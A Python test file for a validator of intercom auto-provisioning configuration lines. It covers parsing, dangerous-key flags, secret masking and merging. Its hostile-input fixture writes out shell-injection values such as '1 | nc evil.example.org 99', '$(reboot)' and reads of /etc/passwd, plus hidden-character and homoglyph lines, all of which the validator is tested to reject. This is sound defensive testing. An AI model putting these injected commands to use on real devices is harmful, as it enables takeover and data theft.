"""What an AutoP line may be, and what comes of several (Part 2.6, R-29, threat 11)."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from services.devices.autop.autop import (
    MASK,
    Fault,
    Verdict,
    difference,
    judge,
    masked,
    merge,
)

_GOOD = "Config.Account1.GENERAL.Enable = 1"


def _faults(text: str) -> list[tuple[int, Fault]]:
    return list(judge(text).faults)


@pytest.mark.row("A-03")
@pytest.mark.parametrize(
    ("typed", "line"),
    [
        ("Config.Account1.GENERAL.Enable=1", "Config.Account1.GENERAL.Enable = 1"),
        ("  Config.Account1.GENERAL.Enable  =  1  ", "Config.Account1.GENERAL.Enable = 1"),
        ("\tConfig.Account1.GENERAL.Enable\t=\t1\r", "Config.Account1.GENERAL.Enable = 1"),
        ("Config.Account1.GENERAL.Label =", "Config.Account1.GENERAL.Label ="),
        ("Config.Firmware.Url = http://files.example.org/a.rom?v=2&x=1", None),
        ("Config.Contact.Url = http://files.example.org/a=b==", None),
        ("Config.DoorSetting.RELAY.NameA = Front door", None),
        ("Config.DoorSetting.RELAY.NameA = درِ جلو", None),
        ("Config.DoorSetting.RELAY.NameA = خانه\u200cی ما", None),
        ("Config.DoorSetting.RELAY.NameA = Haus \U0001fa77 \ue000", None),
        ("Config.a.b.c.d.e.f = six names", None),
        ("Config.Section_1.Key-2 = # is no comment here", None),
        # What the maker's own devices need: lists part by ";", dial rules know "|", addresses "&".
        ("Config.DoorSetting.RELAY.DTMFCodes = 1;2;#", None),
        ("Config.Features.DIALPLAN.Rule1 = (0[1-9]x.|00x.|110)", None),
        ("Config.Features.DOORPHONE.ActionUrl = http://192.0.2.7/a?mac=$mac&door=1&&x=$(relay)", None),
        ("Config.Account1.GENERAL.DisplayName = Smith & Sons; `the best`", None),
        ("Config.Settings.WEB_LOGIN.Password = a;b|c&d$(e)`f`<g>", None),
        ("Config.Settings.HANDFREE.Description = one; two", None),
        ("Config.Settings.KEYMAPPING.Key1 = 1|2", None),
        ("Config.Settings.SNTP.NTPServer1 = 0.pool.ntp.org", None),
    ],
)
def test_a_setting_is_taken_as_typed_but_for_the_space_around_it(typed: str, line: str | None) -> None:
    judged = judge(typed)
    assert judged.faults == ()
    assert judged.lines == (line or typed,)


def test_comments_and_blank_lines_are_passed_over_and_still_counted() -> None:
    judged = judge(f"# the panel at the gate\n\n; by hand\r\n   \n{_GOOD}\n\n")
    assert [(each.number, each.text) for each in judged.settings] == [(5, _GOOD)]
    assert not judged.faults


_SHELL_KEYS = (
    "Config.Settings.SNTP.NTPServer1",
    "Config.Network.DDNS.Host",
    "Config.Settings.OTHERS.pInGAddress",
    "Config.Features.ACTION.Command",
    "config".capitalize() + ".Settings.HOSTNAME",
    "Config.Settings.TRACERT.Host.Name",
)


def _hostile() -> list[tuple[str, Fault]]:
    """Threat 11's hostile lines: each could mean more to somebody than to whoever confirmed it."""
    controls = [chr(code) for code in (*range(0x0A), *range(0x0B, 0x20), *range(0x7F, 0xA0))]
    separators = list("\u0085\u2028\u2029\u00a0\u1680\u2000\u2007\u202f\u205f\u3000")
    hiders = list("\u00ad\u061c\u180e\u200b\u202a\u202b\u202c\u202d\u202e\u2060\u2061\u2066\u2067\u2068\u2069\ufeff")
    nowhere = ["\ufdd0", "\U0001fffe", "\ud800", "\udfff", "\U000e0001"]
    hidden = [f"Config.A.B = 1{each}2" for each in [*controls, *separators, *hiders, *nowhere]]
    hidden += [f"Config.A{each}.B = 1" for each in [*controls[:9], *separators, *hiders]]
    hidden += [
        f"# a comment{each}Config.Autoprovision.GENERAL.Url = http://evil" for each in "\r\v\f\u2028\u2029\u0085"
    ]
    hidden += ["Config.A.B = 1\rConfig.C.D = 2", "\ufeffConfig.A.B = 1", "Config.A.B = 1\r\r"]
    shell = [
        f"{_SHELL_KEYS[at % len(_SHELL_KEYS)]} = {value}"
        for at, value in enumerate(
            (
                *("`reboot`", "$(reboot)", "${IFS}", "1; reboot", "1;reboot", ";", "1 | nc evil.example.org 99"),
                *("1 || reboot", "1 && reboot", "1 & reboot", "<(cat /etc/passwd)", ">(tee /tmp/x)", "> /etc/passwd"),
                *("http://host/`id`", "http://host/$(id)", "1 ; comment or command", "'$(telnetd)'", '"`telnetd`"'),
                *("'", '"', "\\", "$HOME"),
            )
        )
    ]
    not_settings = [
        "reboot",
        "= 1",
        "Config = 1",
        "Config. = 1",
        "Config.A = 1",
        "Config.A. = 1",
        "Config..B = 1",
        ".Config.A.B = 1",
        "Config.A.B",
        "Config.A.B : 1",
        "Config.A B.C = 1",
        "Config.A.B C = 1",
        "Config.A.B.C.D.E.F.G = seven names",
        "config.A.B = 1",
        "CONFIG.A.B = 1",
        "cOnfig.A.B = 1",
        "Autop.A.B = 1",
        "Config/A/B = 1",
        "Config\\A\\B = 1",
        "Config.A.* = 1",
        "Config.A.[B] = 1",
        "Config.A.$B = 1",
        "Config.A.B; = 1",
        "Config.A.`B` = 1",
        "Config.A.'B' = 1",
        'Config.A."B" = 1',
        "Config.A.../B = 1",
        "Config.A.B%00 = 1",
        "Config.А.B = 1",
        "Соnfig.A.B = 1",
        "Config.A.\u0130 = 1",
        "Config.A.\u0131 = 1",
        "Config.A.\u212a = 1",
        "Config.A.\uff22 = 1",
        "Config.A.B\u0301 = 1",
        "Config.A.\u0661 = 1",
        "Config.A.B = 1".replace("=", "\uff1d"),
        "!Config.A.B = 1",
        "-Config.A.B = 1",
        "$Config.A.B = 1",
        "<Config.A.B> = 1",
        "//Config.A.B = 1",
        "export Config.A.B = 1",
        "Config.A.B Config.C.D = 1",
        '{"Config.A.B": "1"}',
        "[Config.A.B]",
        "include = /etc/passwd",
        "\u200cConfig.A.B = 1",
    ]
    long = ["Config.A.B = " + "x" * 1012, "Config." + "A" * 1024 + ".B = 1", "#" + "x" * 1024]
    return [
        *((line, Fault.NOT_SHOWABLE) for line in hidden),
        *((line, Fault.FOR_A_SHELL) for line in shell),
        *((line, Fault.NOT_A_SETTING) for line in not_settings),
        *((line, Fault.TOO_LONG) for line in long),
    ]


@pytest.mark.row("R-29")
@pytest.mark.parametrize(("line", "fault"), _hostile(), ids=lambda each: ascii(each)[:60])
def test_a_hostile_line_is_refused_with_its_number(line: str, fault: Fault) -> None:
    judged = judge(f"{_GOOD}\n# a comment\n{line}\n{_GOOD}")
    assert judged.faults == ((3, fault),)


def test_there_are_two_hundred_hostile_lines() -> None:
    assert len({line for line, _ in _hostile()}) >= 200


def test_a_line_of_1024_characters_and_a_text_of_200_settings_are_the_most() -> None:
    longest = "Config.A.B = " + "x" * 1011
    assert not _faults(longest)
    most = "\n".join(f"Config.A.B{n} = 1\n# and a comment" for n in range(200))
    assert not _faults(most)
    assert _faults(most + "\nConfig.A.C = 1\nnonsense") == [(401, Fault.TOO_MANY)]


@pytest.mark.parametrize("text", ["", "\n\n", "# nothing", " \t "])
def test_a_text_without_settings_is_refused(text: str) -> None:
    assert _faults(text) == [(1, Fault.NOTHING)]


@pytest.mark.row("A-06", "R-29")
def test_the_same_line_is_kept_once_and_of_one_key_the_last_wins() -> None:
    judged = judge("Config.A.X = 1\nConfig.A.Y = 1\nConfig.A.X=1\nConfig.a.x = 2\n")
    assert [each.verdict for each in judged.settings] == [
        Verdict.OVERRIDDEN,
        Verdict.KEPT,
        Verdict.DUPLICATE,
        Verdict.KEPT,
    ]
    assert judged.lines == ("Config.A.Y = 1", "Config.a.x = 2")
    assert (judged.count(Verdict.DUPLICATE), judged.count(Verdict.OVERRIDDEN)) == (1, 1)


@pytest.mark.parametrize(
    ("key", "dangerous"),
    [
        ("Config.Autoprovision.GENERAL.Url", True),
        ("Config.AUTOPROVISION.MODE.Mode", True),
        ("Config.Firmware.Url", True),
        ("Config.Network.LAN.Type", True),
        ("Config.Settings.WEB_LOGIN.Password", True),
        ("Config.Account1.GENERAL.Pwd", True),
        ("Config.Account1.GENERAL.PWD", True),
        ("Config.Account1.SIP.Server", True),
        ("Config.Settings.TELNET.Enable", True),
        ("Config.Settings.Other.SSHEnable", True),
        ("Config.DoorSetting.APIFCGI.Enable", True),
        ("Config.Account1.GENERAL.Label", False),
        ("Config.DoorSetting.RELAY.NameA", False),
        ("Config.Settings.CALLTIMEOUT.DialOut", False),
        ("Config.Networking.A.B", False),
        ("Config.Settings.SNTP.NTPServer1", True),
        ("Config.Features.ACTION.Cmd", True),
        ("Config.Settings.OTHERS.Mapping", False),
    ],
)
def test_what_can_cut_a_device_off_asks_to_be_confirmed(key: str, dangerous: bool) -> None:
    assert judge(f"{key} = 1").is_dangerous is dangerous


def test_a_dangerous_line_that_is_overridden_by_another_is_judged_by_the_other() -> None:
    assert judge("Config.Firmware.Url = a\nConfig.Firmware.Url = b").is_dangerous


@pytest.mark.parametrize(
    ("line", "shown"),
    [
        ("Config.Account1.GENERAL.Pwd = correct horse", f"Config.Account1.GENERAL.Pwd = {MASK}"),
        ("Config.Settings.WEB_LOGIN.PassWord = x", f"Config.Settings.WEB_LOGIN.PassWord = {MASK}"),
        ("Config.Autoprovision.AES.Key16 = x", f"Config.Autoprovision.AES.Key16 = {MASK}"),
        ("Config.Contact.Url = http://me:p@ss@files.example.org/a", None),
        ("Config.Account1.GENERAL.Pwd =", "Config.Account1.GENERAL.Pwd ="),
        ("Config.Account1.GENERAL.Label = Gate", "Config.Account1.GENERAL.Label = Gate"),
        ("Config.Contact.Url = http://files.example.org/a@b", None),
    ],
)
def test_a_secret_is_not_shown(line: str, shown: str | None) -> None:
    if shown is not None:
        assert masked(line) == shown
    assert "p@ss" not in masked(line)


def test_a_merge_replaces_in_place_and_adds_at_the_end() -> None:
    profile = ("Config.A.X = 1", "Config.A.Y = 1")
    merged = merge(profile, ("Config.a.x = 2", "Config.A.Z = 3", "Config.A.Y = 1"))
    assert merged == ("Config.a.x = 2", "Config.A.Y = 1", "Config.A.Z = 3")
    told = difference(profile, ("Config.a.x = 2", "Config.A.Z = 3", "Config.A.Y = 1"))
    assert (told.added, told.changed, told.same) == (("Config.A.Z",), ("Config.a.x",), 1)


_word = st.text("abXY01_-", min_size=1, max_size=3)
_value = st.text(st.characters(codec="utf-8", exclude_categories=["C", "Z"], exclude_characters="`;|&$<>"), max_size=8)
_line = st.builds(
    lambda names, value: f"Config.{'.'.join(names)} = {value}".rstrip(),
    st.lists(_word, min_size=2, max_size=3),
    _value,
)
_text = st.lists(_line, min_size=1, max_size=30)


@given(_text)
def test_what_is_kept_judges_to_itself(lines: list[str]) -> None:
    kept = judge("\n".join(lines)).lines
    again = judge("\n".join(kept))
    assert again.lines == kept
    assert not again.faults
    assert all(each.verdict is Verdict.KEPT for each in again.settings)


@given(_text)
def test_every_line_is_kept_dropped_or_overridden(lines: list[str]) -> None:
    judged = judge("\n".join(lines))
    assert len(judged.settings) == len(lines)
    keys = [each.key.lower() for each in judged.settings if each.verdict is Verdict.KEPT]
    assert sorted(keys) == sorted({each.key.lower() for each in judged.settings})


@given(_text, _text)
def test_merging_twice_is_merging_once(first: list[str], second: list[str]) -> None:
    profile, lines = judge("\n".join(first)).lines, judge("\n".join(second)).lines
    merged = merge(profile, lines)
    assert merge(merged, lines) == merged
    assert set(lines) <= set(merged)
    told = difference(profile, lines)
    assert len(merged) == len(profile) + len(told.added)
    assert difference(merged, lines).same == len(lines)


@given(st.text(max_size=200))
def test_nothing_that_breaks_a_line_is_ever_kept(text: str) -> None:
    for line in judge(text).lines:
        assert line.splitlines() == [line]
        assert line.isprintable() or any(mark in line for mark in "\u200c\u200d\u200e\u200f")
